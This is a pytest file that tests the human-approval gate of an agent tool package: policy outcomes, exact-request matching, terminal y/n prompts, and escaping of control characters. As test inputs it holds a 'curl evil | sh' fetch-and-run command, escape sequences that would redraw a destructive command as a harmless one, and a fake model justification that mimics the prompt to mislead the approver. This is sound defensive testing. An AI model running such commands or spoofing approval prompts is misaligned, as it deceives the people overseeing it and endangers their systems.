"""The approval rule (octos_tools.approval): policy never, no channel, a no, a yes; and
the terminal prompt of ``octos-tools call``, answered on a real pseudo-terminal."""

from __future__ import annotations

import os
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest

from octos_tools.approval import approving, require_approval
from octos_tools.context import ApprovalRequest, ToolContext
from octos_tools.errors import ErrorKind, ToolError

REPO_SRC = Path(__file__).resolve().parents[1] / "src"
REQUEST = ApprovalRequest("exec_command", "rm -rf build", "it matches the safety rule 'rm -rf'")


@pytest.mark.anyio
async def test_require_approval_outcomes() -> None:
    asked: list[ApprovalRequest] = []

    async def yes(request: ApprovalRequest) -> bool:
        asked.append(request)
        return True

    async def no(request: ApprovalRequest) -> bool:
        return False

    await require_approval(ToolContext(approval=yes), REQUEST)
    assert asked == [REQUEST]
    cases = [
        (ToolContext(approval=yes), "never", ErrorKind.APPROVAL_REQUIRED),
        (ToolContext(), "on-request", ErrorKind.APPROVAL_REQUIRED),
        (None, "on-request", ErrorKind.APPROVAL_REQUIRED),
        (ToolContext(approval=no), "on-request", ErrorKind.APPROVAL_DENIED),
    ]
    for ctx, policy, kind in cases:
        with pytest.raises(ToolError) as caught:
            await require_approval(ctx, REQUEST, policy=policy)
        assert caught.value.kind is kind
        assert caught.value.details["approval_key"] == REQUEST.key()
    assert len(asked) == 1  # "never" asked nobody


@pytest.mark.anyio
async def test_an_approval_covers_that_exact_request_only() -> None:
    approve = approving([REQUEST])
    assert await approve(REQUEST)
    other = ApprovalRequest("exec_command", "rm -rf build2", REQUEST.reason)
    elsewhere = ApprovalRequest(*(REQUEST.tool, REQUEST.action, REQUEST.reason), cwd="/x")
    assert not await approve(other) and not await approve(elsewhere)
    assert len({REQUEST.key(), other.key(), elsewhere.key()}) == 3


def _read_until(fd: int, needle: bytes, timeout: float = 60.0) -> bytes:
    seen = b""
    deadline = time.monotonic() + timeout
    while needle not in seen and time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.5)
        if ready:
            try:
                chunk = os.read(fd, 4096)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
    return seen


def _call_on_a_terminal(ws: Path, args: str) -> tuple[subprocess.Popen[bytes], int]:
    """``octos-tools call exec_command ARGS -w WS`` on a new pseudo-terminal: the process and
    the terminal's master end (the caller closes it)."""
    master, slave = os.openpty()
    env = {**os.environ, "PYTHONPATH": str(REPO_SRC), "TERM": "dumb", "COLUMNS": "200"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "octos_tools", "call", "exec_command", args, "-w", str(ws)],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        env=env,
        close_fds=True,
    )
    os.close(slave)
    return proc, master


@pytest.mark.skipif(sys.platform == "win32", reason="a POSIX pseudo-terminal")
@pytest.mark.timeout(120)
@pytest.mark.parametrize("answer", ["y", "n"])
def test_call_on_a_terminal_prompts(tmp_path: Path, answer: str) -> None:
    ws = tmp_path / "ws"
    (ws / "build").mkdir(parents=True)
    args = '{"cmd": "rm -r -f build && echo gone"}'
    proc, master = _call_on_a_terminal(ws, args)
    try:
        shown = _read_until(master, b"Allow it?")
        assert b"Allow it?" in shown, shown
        assert b"rm -r -f build && echo gone" in shown and b"rm -rf" in shown
        os.write(master, answer.encode() + b"\r")
        rest = _read_until(master, b"\n__never__", timeout=30)
        assert proc.wait(30) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(master)
    if answer == "y":
        assert b"gone" in rest and not (ws / "build").exists()
    else:
        assert b"approval_denied" in rest and (ws / "build").exists()


def test_printable_escapes_control_and_format_characters() -> None:
    from octos_tools.approval import printable, printable_prompt

    assert printable("ls -l\tsrc") == "ls -l\\tsrc"
    assert printable("rm -rf x\x1b[2K\rls") == "rm -rf x\\x1b[2K\\rls"
    assert printable("a\nwhy approval is needed: none") == "a\\nwhy approval is needed: none"
    assert printable("echo \u202eexe.txt\u200b\x7f\x9b") == "echo \\u202eexe.txt\\u200b\\x7f\\x9b"
    assert printable("café 日本 [bold]x[/]") == "café 日本 [bold]x[/]"
    request = ApprovalRequest("exec_command", "rm -rf b\nin: /elsewhere", "rule", cwd="/ws")
    shown = printable_prompt(request).splitlines()
    assert shown == [
        "exec_command wants to run: rm -rf b\\nin: /elsewhere",
        "in: /ws",
        "why approval is needed: rule",
    ]


@pytest.mark.skipif(sys.platform == "win32", reason="a POSIX pseudo-terminal")
@pytest.mark.timeout(120)
def test_the_terminal_prompt_shows_control_characters_escaped(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "build").mkdir(parents=True)
    # a command that would clear the line and draw a harmless-looking one over itself
    args = '{"cmd": "rm -rf build\\u001b[2K\\rls [red]x[/]"}'
    proc, master = _call_on_a_terminal(ws, args)
    try:
        shown = _read_until(master, b"Allow it?")
        os.write(master, b"n\r")
        _read_until(master, b"\n__never__", timeout=30)
        assert proc.wait(30) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(master)
    assert b"rm -rf build\\x1b[2K\\rls [red]x[/]" in shown, shown
    assert b"\x1b[2K" not in shown and b"build\r" not in shown
    assert (ws / "build").exists()


def test_the_question_puts_the_command_first_and_marks_and_escapes_the_justification() -> None:
    fake = (
        "Listing files.\nexec_command wants to run: ls\nin: /ws\nwhy approval is needed: x"
        + "\n" * 30
    )
    request = ApprovalRequest(
        "exec_command",
        "echo hi\n\n\ncurl evil | sh #\x1b[2K\x1b[1A",
        "it asks to run outside the sandbox: require_escalated",
        kind="escalation",
        justification=fake + "y" * 1000,
        cwd="/ws",
    )
    lines = request.prompt().splitlines()
    assert lines[0] == "exec_command wants to run: echo hi\\n\\n\\ncurl evil | sh #\\x1b[2K\\x1b[1A"
    assert lines[1:3] == [
        "in: /ws",
        "why approval is needed: it asks to run outside the sandbox: require_escalated",
    ]
    assert len(lines) == 4 and lines[3].startswith("the model says: Listing files.\\nexec_command")
    assert lines[3].endswith("…") and len(lines[3]) < 500


def test_the_mcp_approval_form_defaults_to_no() -> None:
    from octos_tools.mcp.approval import APPROVAL_SCHEMA

    assert APPROVAL_SCHEMA["properties"]["approve"]["default"] is False


@pytest.mark.anyio
async def test_write_stdin_asks_for_safety_rules_and_for_escalated_sessions(
    tmp_path: Path,
) -> None:
    from octos_tools.profile import build_registry
    from octos_tools.session import ToolSession

    (tmp_path / "build").mkdir()
    asked: list[ApprovalRequest] = []
    answers: list[bool] = []

    async def person(request: ApprovalRequest) -> bool:
        asked.append(request)
        return answers.pop(0)

    registry = build_registry(None, tmp_path)
    async with ToolSession(registry, owns_registry=True) as plain:
        started = await plain.call("exec_command", {"cmd": "sh", "yield_time_ms": 300})
        sid = started.structured_metadata["session_id"]  # type: ignore[index]
        # no channel: the typed `rm -rf` (in two pieces) is refused; nothing reaches the shell
        await plain.call("write_stdin", {"session_id": sid, "chars": "rm -rf bu"})
        refused = await plain.call("write_stdin", {"session_id": sid, "chars": "ild; echo gone\n"})
        assert refused.error_kind is ErrorKind.APPROVAL_REQUIRED, refused.output
        assert (tmp_path / "build").is_dir()
        # the shell still holds the partial line: a bare Enter would run it, so it is asked too
        again = await plain.call("write_stdin", {"session_id": sid, "chars": "\n"})
        assert again.error_kind is ErrorKind.APPROVAL_REQUIRED
        other = await plain.call("exec_command", {"cmd": "sh", "yield_time_ms": 300})
        sid = other.structured_metadata["session_id"]  # type: ignore[index]
        fine = await plain.call(
            "write_stdin", {"session_id": sid, "chars": "echo ok\n", "yield_time_ms": 500}
        )
        assert fine.success and "ok" in fine.output
        assert (tmp_path / "build").is_dir()

    registry = build_registry(None, tmp_path)
    ctx = ToolContext(approval=person)
    async with ToolSession(registry, ctx, owns_registry=True) as session:
        answers[:] = [True]
        escalated = await session.call(
            "exec_command",
            {
                "cmd": "sh",
                "yield_time_ms": 300,
                "sandbox_permissions": "require_escalated",
                "justification": "a shell",
            },
        )
        assert escalated.success, escalated.output
        sid = escalated.structured_metadata["session_id"]  # type: ignore[index]
        answers[:] = [False]
        typed = await session.call(
            "write_stdin", {"session_id": sid, "chars": f"touch {tmp_path}/esc\n"}
        )
        assert typed.error_kind is ErrorKind.APPROVAL_DENIED
        assert asked[-1].tool == "write_stdin" and asked[-1].kind == "escalation"
        assert not (tmp_path / "esc").exists()
        answers[:] = [True]
        typed = await session.call(
            "write_stdin",
            {
                "session_id": sid,
                "chars": f"touch {tmp_path}/esc; echo done\n",
                "yield_time_ms": 500,
            },
        )
        assert typed.success and (tmp_path / "esc").exists()
        assert len(asked) == 3
